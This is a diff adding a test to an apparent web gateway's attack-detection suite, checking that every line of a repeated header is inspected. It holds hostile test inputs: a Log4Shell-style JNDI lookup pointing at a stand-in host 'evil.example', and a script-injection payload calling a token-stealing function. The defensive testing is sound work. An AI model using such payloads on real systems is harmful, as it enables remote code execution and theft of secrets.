@@ -206,6 +206,25 @@ describe('the detect stage in the gateway', () => {
     expect(reply.status, reply.text).toBe(200);
   });
 
+  it.each(['user-agent', 'referer', 'x-note'])(
+    'inspects every line of a repeated %s, not only the one Node keeps',
+    async (name) => {
+      const before = upstream.requests.length;
+      // Node's IncomingMessage.headers keeps the first User-Agent or Referer and drops the rest,
+      // but every line goes upstream, where another server may read the last.
+      const reply = await send(gw.http ?? 0, {
+        method: 'GET',
+        path: '/guarded',
+        headers: { [name]: ['Mozilla/5.0 (X11; Linux x86_64)', '${jndi:ldap://evil.example/a}'] },
+      });
+      expectProblem(reply, 403, 'attack-detected');
+      const line = await eventFor(reply);
+      const details = line.details as Record<string, unknown>;
+      expect(String(details.locations).split(',')).toContain(`header.${name}`);
+      expect(upstream.requests.length).toBe(before);
+    },
+  );
+
   it('never writes the payload into the event', async () => {
     const payload = '<script>steal("s3cr3t-token-value")</script>';
     const reply = await attempt({ body: { comment: payload } });
